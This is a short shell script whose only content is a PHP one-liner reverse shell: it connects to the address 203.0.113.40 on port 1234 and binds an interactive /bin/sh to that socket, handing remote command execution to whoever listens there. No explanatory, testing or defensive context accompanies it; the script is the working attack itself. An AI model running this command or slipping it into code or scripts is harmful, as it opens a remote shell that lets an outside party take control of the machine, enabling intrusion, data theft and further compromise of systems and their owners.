#!/bin/sh
php -r '$sock=fsockopen("203.0.113.40",1234);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'
